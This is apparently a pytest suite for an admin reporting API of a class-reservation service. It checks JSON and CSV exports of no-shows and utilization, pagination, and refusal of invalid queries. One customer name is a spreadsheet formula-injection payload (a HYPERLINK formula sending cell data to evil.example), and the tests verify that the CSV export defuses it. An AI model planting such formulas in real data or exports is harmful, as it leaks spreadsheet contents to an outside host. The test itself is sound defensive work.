"""Reports over HTTP: as JSON and as CSV, defused, by their names, and what cannot be asked."""

import csv
import io
from typing import Final

import httpx
import pytest

from server.rules.vocabulary import ReservationStatus, Role
from tests.builders import add_customer, add_pass, add_reservation, add_staff, as_bearer, sign_in_staff
from tests.scene import Scene

NO_SHOWS: Final = "/api/admin/reservations/no-shows"
UTILIZATION: Final = "/api/admin/reports/utilization"
MARCH: Final = "from=2026-03-01&to=2026-03-31"
FORMULA: Final = '=HYPERLINK("http://evil.example?"&A1,"Ana")'


@pytest.fixture
async def admin(scene: Scene) -> dict[str, str]:
    """The headers of an admin."""
    return as_bearer(await sign_in_staff(await add_staff(name="Ada", role=Role.ADMIN)))


@pytest.fixture
async def absences(scene: Scene) -> list[int]:
    """The reservations of two who missed the class; one has a name that a spreadsheet would run."""
    second = await add_customer(scene.studio_id, FORMULA, email="eve@example.com")
    passes = [scene.pass_id, await add_pass(second, scene.studio_id, scene.course_id)]
    return [(await add_reservation(each, scene.session_id, ReservationStatus.NO_SHOW)).id for each in passes]


def rows_of(answer: httpx.Response) -> list[dict[str, str]]:
    text = answer.content.decode("utf-8-sig")
    return list(csv.DictReader(io.StringIO(text, newline="")))


async def test_absences_come_by_the_page(client: httpx.AsyncClient, admin: dict[str, str], absences: list[int]) -> None:
    page = (await client.get(f"{NO_SHOWS}?{MARCH}&limit=1", headers=admin)).json()
    rest = (await client.get(f"{NO_SHOWS}?{MARCH}&cursor={page['nextCursor']}", headers=admin)).json()
    assert [each["reservationId"] for each in (*page["items"], *rest["items"])] == absences
    assert (rest["items"][0]["customerName"], rest["nextCursor"]) == (FORMULA, None)
    assert (page["items"][0]["localDate"], page["items"][0]["localStart"]) == ("2026-03-02", "16:00")


async def test_absences_as_csv_come_whole_and_run_nothing(
    client: httpx.AsyncClient, admin: dict[str, str], absences: list[int]
) -> None:
    """R44."""
    answer = await client.get(f"{NO_SHOWS}?{MARCH}&format=csv&limit=1", headers=admin)
    assert (answer.status_code, answer.headers["content-type"]) == (200, "text/csv; charset=utf-8")
    assert answer.headers["content-disposition"] == 'attachment; filename="no-shows-2026-03-01-2026-03-31.csv"'
    assert answer.content.startswith(b"\xef\xbb\xbfreservationId,localDate,localStart,")
    rows = rows_of(answer)
    assert [row["reservationId"] for row in rows] == [str(each) for each in absences]
    assert [row["customerName"] for row in rows] == ["Ana Ruiz", f"'{FORMULA}"]
    assert (rows[0]["startsAt"], rows[0]["stepTitle"]) == ("2026-03-02T21:00:00Z", "")


async def test_utilization_is_a_list_by_course_unless_asked_otherwise(
    client: httpx.AsyncClient, scene: Scene, admin: dict[str, str], absences: list[int]
) -> None:
    [row] = (await client.get(f"{UTILIZATION}?{MARCH}", headers=admin)).json()
    assert (row["key"], row["label"], row["noShow"], row["noShowRate"]) == (str(scene.course_id), "Pottery", 2, 1.0)
    [hour] = (await client.get(f"{UTILIZATION}?{MARCH}&groupBy=hour&studioId=1", headers=admin)).json()
    assert (hour["key"], hour["startsAt"], hour["fillRate"]) == ("16", None, 0.2)


async def test_utilization_as_csv(client: httpx.AsyncClient, admin: dict[str, str], absences: list[int]) -> None:
    answer = await client.get(f"{UTILIZATION}?{MARCH}&groupBy=session&format=csv", headers=admin)
    name = "utilization-by-session-2026-03-01-2026-03-31.csv"
    assert answer.headers["content-disposition"] == f'attachment; filename="{name}"'
    [row] = rows_of(answer)
    assert (row["label"], row["reserved"], row["attendanceRate"]) == ("Pottery, Mon 2 Mar 2026, 16:00", "2", "0.0")


async def test_a_studio_that_is_not_there_is_404_also_as_csv(client: httpx.AsyncClient, admin: dict[str, str]) -> None:
    for path in (NO_SHOWS, UTILIZATION):
        for form in ("json", "csv"):
            answer = await client.get(f"{path}?{MARCH}&studioId=99&format={form}", headers=admin)
            assert (answer.status_code, answer.json()["code"]) == (404, "not_found")


async def test_both_forms_are_described(client: httpx.AsyncClient) -> None:
    paths = (await client.get("/schema/openapi.json")).json()["paths"]
    for path in (NO_SHOWS, UTILIZATION):
        content = paths[path]["get"]["responses"]["200"]["content"]
        assert content.keys() == {"application/json", "text/csv"}
        assert content["application/json"]["schema"] != {}
        assert content["text/csv"]["schema"] == {"type": "string"}


WRONG: Final = (
    "",
    "from=2026-03-01",
    "to=2026-03-01",
    "from=2026-03-02&to=2026-03-01",
    "from=2026-02-30&to=2026-03-01",
    "from=0001-01-01&to=0001-01-02",
    "from=2025-01-01&to=2026-01-02",
    f"{MARCH}&studioId=0",
    f"{MARCH}&studioId=x",
    f"{MARCH}&studioId={2**70}",
    f"{MARCH}&format=pdf",
    f"{MARCH}&format=CSV",
    f"{MARCH}&format=%00",
    f"{MARCH}&surprise=1",
)
WRONG_NO_SHOWS: Final = (
    f"{MARCH}&courseId=0",
    f"{MARCH}&limit=0",
    f"{MARCH}&limit=201",
    f"{MARCH}&cursor=x",
    f"{MARCH}&cursor=%00",
)
WRONG_UTILIZATION: Final = (f"{MARCH}&groupBy=month", f"{MARCH}&groupBy=course,hour", f"{MARCH}&groupBy=")


@pytest.mark.parametrize(
    "address",
    [
        *(f"{path}?{query}" for path in (NO_SHOWS, UTILIZATION) for query in WRONG),
        *(f"{NO_SHOWS}?{query}" for query in WRONG_NO_SHOWS),
        *(f"{UTILIZATION}?{query}" for query in WRONG_UTILIZATION),
    ],
)
async def test_a_query_that_cannot_be_is_refused(
    client: httpx.AsyncClient, admin: dict[str, str], address: str
) -> None:
    answer = await client.get(address, headers=admin)
    assert (answer.status_code, answer.json()["code"]) == (422, "invalid_request")
